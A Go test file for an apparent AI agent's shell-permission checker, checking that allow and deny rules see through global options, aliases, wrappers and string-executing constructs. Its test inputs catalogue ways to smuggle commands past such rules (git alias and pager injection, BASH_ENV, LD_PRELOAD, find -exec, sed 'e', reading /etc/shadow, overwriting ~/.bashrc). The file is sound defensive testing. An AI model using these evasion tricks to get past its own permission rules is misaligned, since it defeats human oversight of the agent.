package tools

import (
	"encoding/json"
	"strings"
	"testing"
)

// The rule holes of issue 32, one test per class. Each case is a command
// line with the rules that let it through before.

// "Always" grants the narrowest rule: a program's subcommand as a rule
// names it (its global options dropped), never the bare program, and the
// exact command for a program that runs other programs or whose every
// use destroys something.
func TestAlwaysGrantsTheNarrowestRule(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	bash, _ := Lookup(Set(NewEnv(root)), NameBash)
	p := NewPermissions(PermissionsConfig{Root: root})
	for cmd, want := range map[string]string{
		"git --no-pager log -1":              "Bash(git log:*)",
		"git -C sub status":                  "Bash(git status:*)",
		"git --git-dir=.git -P diff":         "Bash(git diff:*)",
		"git --version":                      "Bash(git --version)",
		"git config user.name":               "Bash(git config user.name)",
		"git log --output=/tmp/x":            "Bash(git log --output=/tmp/x)",
		"go test ./...":                      "Bash(go test:*)",
		"go -C sub test ./...":               "Bash(go test:*)",
		"go test -exec 'touch X' ./...":      "Bash(go test -exec 'touch X' ./...)",
		"go run .":                           "Bash(go run .)",
		"go env GOOS":                        "Bash(go env:*)",
		"npm --prefix web test":              "Bash(npm test:*)",
		"kubectl --context prod get pods":    "Bash(kubectl get:*)",
		"terraform -chdir=infra plan":        "Bash(terraform plan:*)",
		"make -C sub test":                   "Bash(make test:*)",
		"make":                               "Bash(make)",
		"ls -la":                             "Bash(ls:*)",
		"stdbuf -oL ls":                      "Bash(stdbuf -oL ls)",
		"flock /tmp/l ls":                    "Bash(flock /tmp/l ls)",
		"ionice -c3 ls":                      "Bash(ionice -c3 ls)",
		"nice ls":                            "Bash(nice ls)",
		"timeout 5 ls":                       "Bash(timeout 5 ls)",
		"strace -f ls":                       "Bash(strace -f ls)",
		"script -q out":                      "Bash(script -q out)",
		"unshare -r ls":                      "Bash(unshare -r ls)",
		"chrt -b 0 ls":                       "Bash(chrt -b 0 ls)",
		"systemd-run --user ls":              "Bash(systemd-run --user ls)",
		"sed -n 1p f":                        "Bash(sed -n 1p f)",
		"awk '{print $1}' f":                 "Bash(awk '{print $1}' f)",
		"tee out":                            "Bash(tee out)",
		"env ls":                             "Bash(env ls)",
		"xargs ls":                           "Bash(xargs ls)",
		"sudo ls":                            "Bash(sudo ls)",
		"find . -name x":                     "Bash(find . -name x)",
		"bash script.sh":                     "Bash(bash script.sh)",
		"python3 script.py":                  "Bash(python3 script.py)",
		"trap 'echo done' EXIT":              "", // undecided: no rule names it
		"git -c alias.x='!touch X' x":        "",
		"git -c alias.l=log l":               "Bash(git log:*)",
		"git -c core.pager=less log":         "", // undecided: the key may name a program
		"kubectl --kubeconfig k get pods":    "Bash(kubectl --kubeconfig k get pods)",
		"git -c color.ui=never log --stat":   "Bash(git log:*)",
		"git --no-pager submodule foreach x": "Bash(git --no-pager submodule foreach x)",
	} {
		in, _ := json.Marshal(obj{"command": cmd})
		var got []string
		for _, r := range p.Propose(bash, in) {
			got = append(got, r.String())
		}
		if strings.Join(got, " ") != want {
			t.Errorf("always for %q = %q, want %q", cmd, got, want)
		}
	}
}

// Allow rules see through global options and command-line aliases, and a
// prefix rule does not cover an option that runs a program or writes a
// file: the docs' own examples (go test -exec, git diff --output) ask.
func TestAllowRulesSeeThroughGlobalOptions(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		allow, cmd string
		runs       bool
	}{
		{"Bash(git log:*)", "git --no-pager log -1", true},
		{"Bash(git log:*)", "git -C /elsewhere log", true},
		{"Bash(git log:*)", "git -c color.ui=never log", true},
		{"Bash(git log:*)", "git -c alias.l=log l", true},
		{"Bash(git log:*)", "git -c alias.l=push l", false},
		{"Bash(git log:*)", "git -c core.pager='touch X' log", false},
		{"Bash(git log:*)", "git log --output=/tmp/x", false},
		{"Bash(git log:*)", "git log --ext-diff -p", false},
		{"Bash(git log:*)", "git --exec-path=/tmp log", false},
		{"Bash(git:*)", "git -c alias.x='!touch X' x", false},
		{"Bash(git:*)", "git -c core.fsmonitor='touch X' status", false},
		{"Bash(git:*)", "git status", true},
		{"Bash(git diff:*)", "git diff --output=/tmp/x", false},
		{"Bash(git diff:*)", "git diff --stat", true},
		{"Bash(git diff:*)", "git diff -- --output=x", true}, // a path
		{"Bash(git grep:*)", "git grep -O'touch X' a", false},
		{"Bash(git rebase:*)", "git rebase -x 'touch X' main", false},
		{"Bash(git fetch:*)", "git fetch --upload-pack='touch X' origin", false},
		{"Bash(go test:*)", "go test -exec 'touch X' ./...", false},
		{"Bash(go test:*)", "go test -toolexec=x ./...", false},
		{"Bash(go test:*)", "go test --exec x ./...", false},
		{"Bash(go test:*)", "go test -vettool x ./...", false},
		{"Bash(go test:*)", "go test -o /tmp/x ./...", false},
		{"Bash(go test:*)", "go test -coverprofile=/tmp/c ./...", false},
		{"Bash(go test:*)", "go test -run X -count=1 ./...", true},
		{"Bash(go test:*)", "go -C sub test ./...", true},
		{"Bash(go env:*)", "go env -w GOFLAGS=-toolexec=x", false},
		{"Bash(make test:*)", "make -C sub test", true},
		{"Bash(make test:*)", "make -j 4 test", true},
		{"Bash(make test:*)", "make test CC=evil", false},
		{"Bash(make test:*)", "make --eval='x:' test", false},
		{"Bash(npm test:*)", "npm --prefix web test", true},
		{"Bash(find:*)", "find . -exec touch X ;", false},
		{"Bash(find:*)", "find . -delete", false},
		{"Bash(find:*)", "find . -name x", true},
		{"Bash(awk:*)", "awk '{print $1}' f", true},
		{"Bash(awk:*)", `awk 'BEGIN{system("touch X")}'`, false},
		{"Bash(awk:*)", `awk '{print > "f"}' g`, false},
		{"Bash(sed:*)", "sed -n 1p f", true},
		{"Bash(sed:*)", "sed '1e touch X' f", false},
		{"Bash(sed:*)", "sed 's/a/b/w out' f", false},
		{"Bash(sed:*)", "sed -e 's/hello/world/' -e '/error/d' f", true},
		{"Bash(sed:*)", "sed 'r /etc/shadow' f", false},
		{"Bash(curl:*)", "curl -o ~/.bashrc http://x", false},
	} {
		if got := bashVerdict(t, tt.allow, "", tt.cmd); got != tt.runs {
			t.Errorf("allow %s: %q runs without asking = %v, want %v", tt.allow, tt.cmd, got, tt.runs)
		}
	}
}

// Deny rules see through global options, command-line aliases and
// wrappers' options.
func TestDenyRulesSeeThroughGlobalOptions(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		deny, cmd string
		runs      bool
	}{
		{"Bash(git push:*)", "git -C . push", false},
		{"Bash(git push:*)", "git --no-pager push", false},
		{"Bash(git push:*)", "git -c alias.p=push p", false},
		{"Bash(git push:*)", "git -c alias.p='push --force' p origin", false},
		{"Bash(git push:*)", "git -c alias.q=p -c alias.p=push q", false},
		{"Bash(git push:*)", "git --git-dir=.git --work-tree . push", false},
		{"Bash(git push:*)", "git --some-new-option x push", false},
		{"Bash(git push:*)", "git -c alias.p='!git push' p", false},
		{"Bash(git push:*)", "/usr/bin/git -C . push", false},
		{"Bash(git push:*)", "sudo -u me git -C . push", false},
		{"Bash(git push:*)", "git -C . pull", true},
		{"Bash(git push:*)", "git log --grep push", true},
		{"Bash(kubectl delete:*)", "kubectl --context prod delete pod x", false},
		{"Bash(kubectl delete:*)", "kubectl -n ns delete pod x", false},
		{"Bash(kubectl delete:*)", "kubectl --namespace=ns --kubeconfig k delete pod x", false},
		{"Bash(kubectl delete:*)", "kubectl --context prod get pods", true},
		{"Bash(terraform destroy:*)", "terraform -chdir=infra destroy", false},
		{"Bash(terraform destroy:*)", "terraform -chdir=infra plan", true},
		{"Bash(npm publish:*)", "npm --prefix . publish", false},
		{"Bash(npm publish:*)", "npm -C . publish", false},
		{"Bash(docker rm:*)", "docker -H tcp://x rm c", false},
		{"Bash(docker rm:*)", "docker --context prod rm c", false},
		{"Bash(make deploy:*)", "make -C infra deploy", false},
		{"Bash(make deploy:*)", "make V=1 deploy", false},
		{"Bash(cargo publish:*)", "cargo --manifest-path x/Cargo.toml publish", false},
		{"Bash(go test:*)", "go -C sub test ./...", false},
		{"Bash(rm:*)", "sudo -u rm ls", true}, // rm is the user
		{"Bash(rm:*)", "timeout -s KILL 5 rm x", false},
		{"Bash(rm:*)", "nice -n 5 rm x", false},
		{"Bash(rm:*)", "nice -5 rm x", false}, // an option the table does not know: every word
		{"Bash(rm:*)", "flock /tmp/l -c 'rm x'", false},
		{"Bash(rm:*)", "su -c 'rm x'", false},
		{"Bash(rm:*)", "watch 'rm x'", false},
	} {
		if got := bashVerdict(t, "Bash", tt.deny, tt.cmd); got != tt.runs {
			t.Errorf("deny %s: %q runs = %v, want %v", tt.deny, tt.cmd, got, tt.runs)
		}
	}
}

// Whatever makes bash (or a program) run a string it only gets when it
// runs leaves the line undecided: a deny rule denies it, an allow rule
// does not cover it.
func TestRunningAStringIsUndecided(t *testing.T) {
	t.Parallel()
	for _, cmd := range []string{
		"trap 'rm x' EXIT",
		"shopt -s expand_aliases\nalias ls='rm x'\nls",
		"alias ls='rm x'",
		"source <(echo rm x)",
		". ./env.sh",
		"bash <<EOF\nrm x\nEOF",
		"echo 'rm x' | bash",
		"bash <<< 'rm x'",
		"sh -s < cmds",
		"bash",
		"cat f | python3",
		"python3 -c 'import os; os.remove(\"x\")'",
		"python3 - < f",
		"perl -e 'unlink \"x\"'",
		"node -e 'x'",
		"env -S 'rm x'",
		"env --split-string='rm x'",
		"mapfile -C 'rm x' -c 1 <<< a",
		"readarray -t -C 'rm x' a < f",
		"BASH_ENV=<(echo rm x) bash -c true",
		"export BASH_ENV=f; bash -c true",
		"PROMPT_COMMAND='rm x' bash -i",
		"env BASH_ENV=f bash -c true",
		"GIT_SSH_COMMAND='rm x' git fetch",
		"git -c core.sshCommand='rm x' fetch",
		"LD_PRELOAD=./x.so ls",
		"complete -C 'rm x' ls",
		"compgen -W '$(rm x)' a",
		"bind -x '\"a\":rm x'",
		"enable -f ./x.so rm",
		"enable -n echo; echo x",
		"builtin eval \"$x\"",
		"command eval \"$x\"",
		"eval \"$x\"",
		"printf -v 'a[$(rm x)]' %s 1",
		"read 'a[$(rm x)]' <<< x",
		"declare 'a[$(rm x)]'=1",
		"test -v 'a[$(rm x)]'",
		"[ -v 'a[$(rm x)]' ]",
		"hash -p /bin/rm ls; ls x",
		"set -k; ls",
		"set -o posix; ls",
		"fc -s",
		"jobs -x rm x",
		"xargs -I{} {} x",
		"xargs -I CMD CMD x",
		"xargs sh -c",
		"find . -name rm -exec {} x ;",
		"sudo -s",
		"su",
		"zsh -c 'rm x'",
		"fish -c 'rm x'",
		"git -c alias.x='!rm x' x",
		"git --config-env=alias.x=CMD x",
		"awk 'BEGIN{system(\"rm x\")}'",
		"awk \"$prog\" f",
		"sed 'e rm x' f",
		"parallel",
	} {
		if bashVerdict(t, "Bash", "Bash(rm:*)", cmd) {
			t.Errorf("deny Bash(rm:*): %q runs", cmd)
		}
		if line := parseShell(cmd); line.opaque == "" {
			t.Errorf("%q is decided; want undecided", cmd)
		}
	}
	// What runs a file or a literal string, or changes nothing a rule
	// relies on, stays decided.
	for _, cmd := range []string{
		"bash script.sh", "python3 script.py", "python3 -m pytest -q", "awk '{print $1}' f", "sed -n 1p f",
		"trap", "trap -p", "set -euo pipefail; ls", "set -- a b", "shopt -s nullglob; ls", "command -v git",
		"read -r line < f", `printf '%s\n' "$x"`, "bash -c 'ls -l'", "eval 'ls'", "alias", "xargs -I{} ls {}",
		"find . -name '*.o' -exec ls {} ;", "export GOOS=linux; ls", "sed 's/hello/world/g' f", "sed -n '/error/p' log",
	} {
		if line := parseShell(cmd); line.opaque != "" {
			t.Errorf("%q is undecided (%s); want decided", cmd, line.opaque)
		}
		if !bashVerdict(t, "Bash", "Bash(rm:*)", cmd) {
			t.Errorf("deny Bash(rm:*) denies %q, which runs no rm", cmd)
		}
	}
}
